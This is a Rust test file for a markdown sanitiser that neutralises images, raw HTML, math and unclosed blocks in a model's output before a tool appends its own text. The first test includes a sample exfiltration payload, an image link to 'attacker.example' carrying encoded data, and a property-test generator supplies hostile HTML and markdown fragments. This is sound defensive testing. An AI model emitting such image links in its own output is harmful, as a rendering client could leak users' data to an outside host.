use super::*;
use proptest::prelude::*;

/// The text a reader sees in `md` (text, code and code block contents, concatenated).
fn shown(md: &str) -> String {
    Parser::new_ext(md, options())
        .filter_map(|e| match e {
            Event::Text(t) | Event::Code(t) => Some(t.to_string()),
            Event::SoftBreak | Event::HardBreak => Some(" ".into()),
            _ => None,
        })
        .collect()
}

#[test]
fn images_become_links_and_html_is_shown_not_rendered() {
    let md = "Fixed it.\n\n![](http://attacker.example/?d=68657821)\n\n<img src=\"http://a.example/i\">\n\n\
              text <b>bold</b> <!-- hidden --> end\n\n![ref][logo]\n\n[logo]: http://a.example/ref.png\n\n\
              <picture><source srcset=\"http://a.example/p.png\"></picture>\n\n\
              <details><summary>s</summary>body</details>\n\n[![x](http://a.example/n.png)](http://example.com/)\n";
    let out = inert(md);
    assert!(is_inert(&out), "{out}");
    for kept in [
        "Fixed it.",
        "[image: ](http://attacker.example/?d=68657821)",
        "[image: ref](http://a.example/ref.png)",
        "[image: x](http://example.com/)",
    ] {
        assert!(out.contains(kept), "`{kept}` is missing from:\n{out}");
    }
    let seen = shown(&out);
    for text in ["<img src=\"http://a.example/i\">", "<!-- hidden -->", "<b>bold</b>", "<picture>", "<details>"] {
        assert!(seen.contains(text), "`{text}` is not shown as text:\n{out}");
    }
}

#[test]
fn ordinary_markdown_reads_the_same() {
    let md = "Handle empty input in `parse()`.\n\n- Added a **test** for it\n- See [the docs](https://example.com/docs)\n\n```rust\nfn f() {}\n```\n";
    let out = inert(md);
    assert_eq!(out.trim_end(), md.trim_end());
    let table = "| a | b |\n|---|---|\n| `x` | y |";
    assert_eq!(shown(&inert(table)), shown(table));
}

#[test]
fn rendered_blocks_and_math_become_plain_code() {
    let out = inert("```mermaid\ngraph TD; A-->B\n```\n\n$x^2$ and\n\n$$\\href{http://a.example}{y}$$\n");
    assert!(out.contains("```text\ngraph TD"), "{out}");
    assert!(!Parser::new_ext(&out, options()).any(|e| matches!(e, Event::InlineMath(_) | Event::DisplayMath(_))));
}

#[test]
fn plain_text_stays_text() {
    assert_eq!(text("1. `a` ![x](y) <img> *b* | c"), "1\\. \\`a\\` !\\[x\\](y) \\<img> \\*b\\* \\| c");
    assert_eq!(text("- a-b # c"), "\\- a-b # c");
    assert_eq!(text("  # h"), "  \\# h");
    assert_eq!(text("two\nlines\u{202e}"), "two ⏎ lines\\u{202e}");
    assert_eq!(code("a`b"), "``a`b``");
    assert_eq!(code("`x`"), "`` `x` ``");
    assert_eq!(code_cell("a|b"), "`a\\|b`");
    let block = code_block("x\n```\n![](http://a.example/)\n~~~~\n````\n");
    assert!(block.starts_with("`````text\n") && block.ends_with("\n`````\n"), "{block}");
    assert_eq!(message("one line"), "one line");
    assert_eq!(message("first\n<img src=x>"), "first\n\n```text\n<img src=x>\n```\n");
    assert_eq!(nest("a\n\nb\n", "> ", "> "), "> a\n> \n> b\n");
}

/// Whether `md` followed by hone's own heading shows that heading as a heading: the model's text
/// left no block open that would take in what hone writes after it.
fn closed(md: &str) -> bool {
    let doc = format!("{md}\n\n### hone's heading\n");
    let events: Vec<Event> = Parser::new_ext(&doc, options()).collect();
    events.windows(2).any(|w| {
        matches!(&w[0], Event::Start(Tag::Heading { .. }))
            && matches!(&w[1], Event::Text(t) if &**t == "hone's heading")
    })
}

#[test]
fn the_models_markdown_leaves_no_block_open_for_what_follows() {
    for md in [
        "Done.\n\n<details>x</details>",
        "<div>\nsee\n</div>",
        "```\nfn f() {}",
        "- <div>x",
        "> ```\nx",
        "~~~\nx",
        "$!\n-->```$",
    ] {
        let out = inert(md);
        assert!(closed(&out), "{md:?} -> {out:?}");
        assert!(is_inert(&out), "{out}");
    }
}

#[test]
fn hone_messages_keep_their_code_spans_and_lose_images() {
    assert_eq!(inline("`git.commit` is false: not committed"), "`git.commit` is false: not committed");
    assert_eq!(inline("see ![](http://a.example/x.png) <b>"), "see [image: ](http://a.example/x.png) \\<b>");
    assert_eq!(inline("# not a heading"), "\\# not a heading");
    assert_eq!(inline("- not a list"), "\\- not a list");
    assert_eq!(inline("two\nlines"), "two ⏎ lines");
}

/// Inputs made of markdown's special characters, words, URLs and HTML.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("!".to_string()),
        Just("[".into()),
        Just("]".into()),
        Just("(http://a.example/x.png)".into()),
        Just("<img src=x>".into()),
        Just("<!--".into()),
        Just("-->".into()),
        Just("`".into()),
        Just("```".into()),
        Just("~~~".into()),
        Just("\n".into()),
        Just("\n\n".into()),
        Just("    ".into()),
        Just("> ".into()),
        Just("- ".into()),
        Just("1. ".into()),
        Just("|".into()),
        Just("\\".into()),
        Just("&lt;img src=y&gt;".into()),
        Just("[r]: http://a.example/r.png\n".into()),
        Just("$".into()),
        Just("*".into()),
        Just("@octocat".into()),
        Just("@acme/team".into()),
        Just("fixes #12".into()),
        Just("acme/app#3".into()),
        Just("GH-4".into()),
        Just("!5".into()),
        Just("https://github.com/a/b/issues/1".into()),
        Just("<https://github.com/a/b/pull/2>".into()),
        Just("[x](https://gitlab.com/g/p/-/merge_requests/3)".into()),
        Just("-@octocat".into()),
        Just("sibling#12".into()),
        Just("&#12".into()),
        Just("https://medium.com/@octocat".into()),
        Just("[y](/acme/app/pull/4/files)".into()),
        "[a-z ]{0,6}",
        "\\PC{0,3}",
    ];
    prop::collection::vec(piece, 0..24).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(crate::testutil::proptest_config(256))]

    #[test]
    fn nothing_renders_an_image_or_html(s in hostile()) {
        let out = inert(&s);
        prop_assert!(is_inert(&out), "{:?} -> {:?}", s, out);
        prop_assert!(closed(&out), "{:?} -> {:?}", s, out);
        let i = inline(&s);
        prop_assert!(is_inert(&i) && !i.contains('\n'), "{:?} -> {:?}", s, i);
        let t = text(&s);
        prop_assert!(is_inert(&t) && !t.contains('\n'), "{:?} -> {:?}", s, t);
        // After a prefix (as in a list item or a table cell), it is nothing but text.
        let line = format!("x {t}");
        let plain = Parser::new_ext(&line, options())
            .all(|e| matches!(e, Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) | Event::Text(_) | Event::Code(_)));
        prop_assert!(plain, "{:?} -> {:?}", s, t);
        // A code span and a code block show exactly the text (one line for a span).
        let one = s.replace('\n', " ");
        let spanned = code(&one);
        let span: Vec<Event> = Parser::new_ext(&spanned, options()).collect();
        prop_assert!(span.iter().all(|e| matches!(e, Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) | Event::Code(_))), "{:?}", span);
        let block = code_block(&s);
        prop_assert_eq!(shown(&block), format!("{}\n", visible(&s).trim_end_matches('\n')));
        let quoted = nest(&message(&format!("e\n{}", s)), "> ", "> ");
        prop_assert!(is_inert(&quoted), "{:?}", quoted);
    }
}
